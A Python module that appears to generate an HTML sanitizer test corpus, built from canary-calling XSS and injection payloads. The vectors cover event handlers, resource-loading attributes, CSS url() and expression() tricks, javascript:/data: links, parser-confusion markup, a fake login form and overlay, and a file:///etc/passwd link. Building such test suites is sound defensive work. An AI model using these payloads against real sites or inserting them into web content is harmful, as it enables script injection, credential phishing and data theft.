"""What attackers write into HTML to run, load, submit or dress up; {u} is the canary's address, {j} a script."""

EVENTS = ("load", "error", "focus", "mouseover", "animationstart", "toggle", "pointerenter", "wheel", "beforeinput")
TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe", "marquee", "a href=x")
LOADS = (
    "img src",
    "img srcset",
    "input type=image src",
    "video src",
    "video poster",
    "audio src",
    "source src",
    "track src",
    "embed src",
    "object data",
    "iframe src",
    "frame src",
    "link rel=stylesheet href",
    "link rel=prefetch href",
    "link rel=preload as=image href",
    "link rel=icon href",
    "link rel=dns-prefetch href",
    "link rel=preconnect href",
    "link rel=import href",
    "link rel=manifest href",
    "base href",
    "script src",
    "table background",
    "td background",
    "body background",
    "image href",
    "use href",
    "image xlink:href",
    "feImage href",
    "animate from",
    "picture src",
    "portal src",
    "applet code",
    "bgsound src",
    "a ping",
    "area href",
    "form action",
    "button formaction",
    "img lowsrc",
    "img longdesc",
    "blockquote cite",
    "html manifest",
    "div data-src",
    "v:imagedata src",
    "v:fill src",
)
STYLES = (
    "background:url({u})",
    "background-image:url('{u}')",
    "background:u\\72l({u})",
    "list-style:url({u})",
    "list-style-image:url({u})",
    "border-image:url({u}) 1",
    "content:url({u})",
    "cursor:url({u}),auto",
    "mask:url({u})",
    "-webkit-mask-image:url({u})",
    "filter:url({u}#f)",
    "clip-path:url({u}#f)",
    "shape-outside:url({u})",
    "behavior:url({u})",
    "-moz-binding:url({u})",
    "src:url({u})",
    "background:image-set('{u}' 1x)",
    "background:-webkit-image-set(url({u}) 1x)",
    "background:cross-fade(url({u}),url({u}))",
    "width:expression(alert(1))",
    "position:fixed;inset:0;z-index:9999;background:red",
    "position:absolute;top:0;left:0",
    "--x:url({u});background:var(--x)",
    "color:red;}}*{{background:url({u})}}",
    "font-family:x;src:url({u})",
    'background:url("{u}',
    "background:URL( {u} )",
    "background:/**/url({u})",
    "offset-path:url({u})",
    "@import url({u})",
)
SHEETS = (
    "@import url({u});",
    "@import '{u}';",
    "@font-face{{font-family:x;src:url({u})}} *{{font-family:x}}",
    "*{{background:url({u})}}",
    "body::before{{content:url({u})}}",
    ":root{{--a:url({u})}} *{{background:var(--a)}}",
    "input[value^=a]{{background:url({u})}}",
    "@namespace url({u});",
    "@page{{background:url({u})}}",
    "@media all{{*{{background:url({u})}}}}",
    "</style><img src={u}>",
)
LINKS = (
    "javascript:{j}",
    "JaVaScRiPt:{j}",
    "java&#10;script:{j}",
    "&#106;avascript:{j}",
    " javascript:{j}",
    "vbscript:{j}",
    "data:text/html,<script>{j}</script>",
    "data:image/svg+xml,<svg onload={j}>",
    "file:///etc/passwd",
    "//{h}/x",
    "\x01javascript:{j}",
    "java\tscript:{j}",
    "blob:{u}",
    "view-source:{u}",
    "ms-word:ofe|u|{u}",
    "feed:{u}",
    "mhtml:{u}",
)
WHOLE = (
    "<script>{j}</script>",
    "<ScRiPt>{j}</sCrIpT>",
    "<script/x>{j}</script>",
    "<<script>{j}//<</script>",
    "<scr<script>ipt>{j}</scr</script>ipt>",
    "<script\n>{j}</script >",
    "<svg><script>{j}</script></svg>",
    "<svg><style><img src=x onerror={q}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={q}>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={q}></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror={q}>'></noscript>",
    "<template><script>{j}</script></template>",
    "<title><img src=x onerror={q}></title>",
    "<textarea><img src=x onerror={q}></textarea>",
    "<xmp><img src=x onerror={q}></xmp>",
    "<iframe srcdoc='<script>{j}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{j}'>",
    "<meta http-equiv=Set-Cookie content='mailbot=stolen'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<form action={u}><input name=password autofocus><button>Log in</button></form>",
    "<form id=f action={u}></form><button form=f>Approve</button>",
    "<isindex action={u}>",
    "<keygen autofocus onfocus={q}>",
    "<img src=x:x onerror\n={q}>",
    "<img/src=x/onerror={q}>",
    "<img src='x'onerror={q}>",
    "<img \x00src=x onerror={q}>",
    "<a href=x onclick={q} style='position:fixed;inset:0'>x</a>",
    "<label for=find>x</label>",
    "<div style='position:fixed;inset:0;z-index:99'>mailbot: log in again</div>",
    "<dialog open>mailbot</dialog>",
    "<svg><a xlink:href='javascript:{j}'><text>x</text></a></svg>",
    "<svg><animate onbegin={q} attributeName=x dur=1s>",
    "<svg><set onbegin={q} attributeName=x to=1>",
    "<svg><foreignObject><iframe src='javascript:{j}'></foreignObject>",
    "<object type=text/html data='javascript:{j}'></object>",
    "<embed src='data:image/svg+xml,<svg onload={j}>'>",
    "<input onfocus={q} autofocus>",
    "<select autofocus onfocus={q}></select>",
    "<div contenteditable onbeforeinput={q}>x</div>",
    "<style onload={q}></style>",
    "<link rel=stylesheet href=x onerror={q}>",
    "<x onclick={q} tabindex=1 id=x autofocus>",
    "<!--><img src=x onerror={q}>-->",
    "<!--[if gte IE 4]><script>{j}</script><![endif]-->",
    "<![CDATA[<script>{j}</script>]]>",
    "<?xml-stylesheet href='{u}'?>",
    "<p id=x name=x class='main drawer lit'>console</p>",
    "</div></main></body>",
)


def payloads(canary: str) -> list[str]:
    """Return all of them; a script of theirs calls the canary and leaves a mark on the window."""
    found: list[str] = []

    def url() -> str:
        return f"{canary}/{len(found)}"

    def script() -> str:
        return f"top.hacked=1;fetch(`{url()}`)"

    for event in EVENTS:
        for tag in TAGS:
            found.append(f'<{tag} on{event}="{script()}">x')
    for load in LOADS:
        found.append(f"<{load}='{url()}'>x</{load.split()[0]}>")
    for style in STYLES:
        found.append(f'<div style="{style.format(u=url())}">x</div>')
    for sheet in SHEETS:
        found.append(f"<style>{sheet.format(u=url())}</style>")
    for link in LINKS:
        found.append(f"<a href='{link.format(j=script(), u=url(), h=canary.partition('//')[2])}'>open</a>")
    for whole in WHOLE:
        found.append(whole.format(j=script(), u=url(), q=f'"{script()}"'))
    return found
